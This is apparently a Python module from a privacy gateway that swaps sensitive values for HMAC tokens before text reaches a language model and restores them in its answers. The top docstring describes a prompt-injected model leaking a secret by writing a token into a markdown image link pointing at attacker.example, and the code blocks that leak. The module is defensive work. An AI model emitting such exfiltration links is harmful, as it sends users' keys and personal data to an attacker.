"""The token format and the per-request vault.

A value becomes ``[LABEL_xxxxxxxxxxxx]``: the label tells the model what kind of value
it stands for, and the 12 hex digits (48 bits) are an HMAC of (label, value) under a
key of the token namespace (a policy's, or a virtual key's: the same e-mail gets
different tokens behind two policies, so a provider cannot link one person across
the apps behind a gateway). In one namespace the same value gets the same token in
every request, so a conversation whose history is re-sent stays consistent and needs
no stored mapping. Two values of one request sharing a token would restore wrongly:
with 48 bits that takes ~16 million values in one request to reach even odds of one
pair, and the vault refuses the request if it ever happens. The vault of one request
maps its tokens back to values and lives only as long as that request.

Restoring is tolerant of what models do to tokens: case changes, a space or a dash
instead of the underscore, a missing bracket. The hex digits must match a token of
this request exactly, so unrelated text is never replaced. Restoring gives nothing
away to a model that was prompt-injected: a token written inside a URL or a link
target (``![](https://attacker.example/?d=[API_KEY_...])``) is restored only for the
labels the policy allows there, and secrets never are; a policy may also keep labels
from being restored at all.
"""

from __future__ import annotations

import hashlib
import hmac
import re
from collections import Counter

import orjson

from zdr.detect.model import LABELS, occurrences

HEX_DIGITS = 12
# Labels never restored inside a URL or link target, whatever the policy says.
SECRET_LABELS = frozenset({"API_KEY", "SECRET"})
_LINK_MARKS = ("://", "](", "mailto:", "www.", "data:")
# What ends the "word" a token sits in: whitespace, quotes, angle brackets (a URL holds
# none of them raw).
_BOUNDARIES = (" ", "\t", "\r", "\n", '"', "'", "<", ">")
_MAX_WORD = 4096  # how far back the word around a token is read


def in_link(text: str, at: int, before: str = "") -> bool:
    """Whether the token at ``at`` in ``text`` sits in a URL, a markdown link or image
    target, or an HTML attribute value (``before``: what preceded ``text``)."""
    stop = max(0, at - _MAX_WORD)
    b = max(text.rfind(ch, stop, at) for ch in _BOUNDARIES)
    if b < 0 and stop == 0 and before:
        return in_link(before + text[:at], len(before) + at)
    if b >= 1 and text[b] in "\"'" and text[b - 1] == "=":
        return True  # src="...", href='...'
    word = text[max(b + 1, stop) : at].lower()
    return any(mark in word for mark in _LINK_MARKS)


def _label_pattern(label: str) -> str:
    return label.replace("_", "[_ ]?")


_LABEL_ALTERNATION = "|".join(_label_pattern(lb) for lb in sorted(LABELS, key=len, reverse=True))
# What stands before a token's hex digits (an optional bracket, the label, separators)
# and what may follow them.
_HEAD = rf"(?:\[[ \t]*)?(?<![0-9A-Za-z])({_LABEL_ALTERNATION})[ \t]*[_ -]?[ \t]*"
_TAIL = r"[ \t]*\]"
# A token as a model may write it back: [PERSON_1a2b3c4d], person 1a2b3c4d, [Person-1A2B3C4D
TOKEN_IN_TEXT = re.compile(
    rf"{_HEAD}([0-9a-fA-F]{{{HEX_DIGITS}}})(?![0-9a-zA-Z])(?:{_TAIL})?", re.IGNORECASE
)


def _prefix_pattern(label: str) -> str:
    """Any prefix of LABEL[_ -]?hhhhhhhh ]."""
    tail = rf"(?:[_ -]?(?:[0-9a-fA-F]{{0,{HEX_DIGITS}}}[ \t]*)?)?"
    out = tail
    for ch in reversed(label):
        piece = "[_ ]?" if ch == "_" else re.escape(ch)
        out = f"(?:{piece}{out})?"
    return out


MAX_TOKEN_CHARS = 2 + max(len(lb) for lb in LABELS) + 1 + HEX_DIGITS + 4

# TOKEN_IN_TEXT read from its hex digits: what must stand right before them (a label,
# separators, an optional bracket) and what may follow. Restoring starts from where
# one of this request's own hex digits occur, found by str.find, instead of trying
# the whole pattern at every position of the answer.
_TOKEN_HEAD = re.compile(rf"{_HEAD}\Z", re.IGNORECASE)
_TOKEN_TAIL = re.compile(_TAIL)
_ASCII_ALNUM = frozenset("0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ")
# Up to this many tokens in a request, looking for each one's digits (str.find, at C
# speed) beats one regex pass over the answer; beyond it, the pass over runs of hex
# digits, whose time grows with the answer alone, not with answer x tokens (a long
# document with 6,600 tokens took 2.8 s to restore per-token).
_FIND_EACH_UP_TO = 24
_HEX_RUN = re.compile(rf"[0-9a-f]{{{HEX_DIGITS},}}")


_BY_CANONICAL = {lb.replace("_", ""): lb for lb in LABELS}


def _canonical_label(written: str) -> str:
    """The label a model wrote (any case, spaces or underscores) as zdr names it."""
    return _BY_CANONICAL.get(written.upper().replace("_", "").replace(" ", ""), written)


def _lookup_key(label: str, hex_digits: str) -> tuple[str, str]:
    """Labels compared without case, spaces or underscores: a model that writes
    `date of birth` or `DATEOFBIRTH` still names the same token."""
    return label.upper().replace("_", "").replace(" ", ""), hex_digits.lower()


class TokenCollision(Exception):
    """Two values of one request hashed to the same token (never seen: 48 bits)."""


class Vault:
    """One request's tokens. Never shared between requests, never written anywhere.

    ``restore_labels``: the labels put back in answers (None: all); ``link_labels``:
    those put back inside URLs and link targets (secrets never)."""

    __slots__ = ("_hex", "_key", "_values", "counts", "link_labels", "restore_labels")

    def __init__(
        self,
        key: bytes,
        restore_labels: frozenset[str] | None = None,
        link_labels: frozenset[str] = frozenset(),
    ):
        self._key = key
        self._values: dict[tuple[str, str], str] = {}
        self._hex: set[str] = set()  # the hex digits of this request's tokens
        self.counts: Counter[str] = Counter()
        self.restore_labels = restore_labels
        self.link_labels = link_labels - SECRET_LABELS

    def __bool__(self) -> bool:
        return bool(self._values)

    def token_for(self, label: str, value: str) -> str:
        digest = hmac.new(self._key, f"{label}\0{value}".encode(), hashlib.sha256).hexdigest()
        short = digest[:HEX_DIGITS]
        key = _lookup_key(label, short)
        if self._values.setdefault(key, value) != value:
            raise TokenCollision()
        self._hex.add(short)
        self.counts[label] += 1
        return f"[{label}_{short}]"

    def value_of(self, label: str, hex_digits: str) -> str | None:
        return self._values.get(_lookup_key(label, hex_digits))

    def _may_restore(self, label: str, text: str, at: int, before: str) -> bool:
        """Whether the token of ``label`` starting at ``at`` in ``text`` is put back."""
        canonical = _canonical_label(label)
        if self.restore_labels is not None and canonical not in self.restore_labels:
            return False
        return canonical in self.link_labels or not in_link(text, at, before)

    def digits_in(self, data: bytes) -> list[int]:
        """Where this request's hex digits occur in ``data`` (in any case), in order."""
        if not self._values:
            return []
        # Latin-1 reads any bytes, one character each: offsets are the bytes'.
        return self._digits_at(data.lower().decode("latin-1"))

    def _digits_at(self, low: str) -> list[int]:
        """Where this request's hex digits occur in ``low``, overlapping ones too, in
        order."""
        if len(self._hex) <= _FIND_EACH_UP_TO:
            return sorted(p for h in self._hex for p in occurrences(low, h))
        return [
            p
            for run in _HEX_RUN.finditer(low)
            for p in range(run.start(), run.end() - HEX_DIGITS + 1)
            if low[p : p + HEX_DIGITS] in self._hex
        ]

    def restore(self, text: str, json_escape: bool = False, before: str = "") -> str:
        """Replace every token of this request in ``text`` by its value, where the
        policy lets it be (``before``: the text that preceded ``text`` in the same
        field of a stream, read for a URL the token may sit in)."""
        if not self._values or len(text) < HEX_DIGITS + 3:  # too short for a token
            return text
        low = text.lower()
        if len(low) != len(text):
            return self._restore_by_pattern(text, json_escape, before)  # offsets shift
        at = self._digits_at(low)
        if not at:
            return text
        out: list[str] = []
        last = 0
        for p in at:
            end = p + HEX_DIGITS
            if p < last or (end < len(text) and text[end] in _ASCII_ALNUM):
                continue  # inside the token before, or longer than a token's digits
            head = _TOKEN_HEAD.search(text, max(last, p - MAX_TOKEN_CHARS), p)
            if head is None:
                continue
            value = self.value_of(head.group(1), text[p:end])
            if value is None or not self._may_restore(head.group(1), text, head.start(), before):
                continue
            tail = _TOKEN_TAIL.match(text, end)
            out.append(text[last : head.start()])
            out.append(orjson.dumps(value).decode()[1:-1] if json_escape else value)
            last = tail.end() if tail else end
        if not out:
            return text
        out.append(text[last:])
        return "".join(out)

    def _restore_by_pattern(self, text: str, json_escape: bool, before: str = "") -> str:
        def put_back(m: re.Match[str]) -> str:
            value = self.value_of(m.group(1), m.group(2))
            if value is None or not self._may_restore(m.group(1), text, m.start(), before):
                return m.group(0)
            if json_escape:  # inside a JSON string (tool-call arguments)
                return orjson.dumps(value).decode()[1:-1]
            return value

        return TOKEN_IN_TEXT.sub(put_back, text)


_PARTIAL_AT_END = re.compile(
    r"(?:\[[ \t]*|(?<![0-9A-Za-z]))(?:" + "|".join(_prefix_pattern(lb) for lb in LABELS) + r")\Z",
    re.IGNORECASE,
)


def partial_token_start(text: str) -> int:
    """Where a possibly unfinished token begins at the end of ``text`` (len if none)."""
    m = _PARTIAL_AT_END.search(text, max(0, len(text) - MAX_TOKEN_CHARS))
    return m.start() if m else len(text)
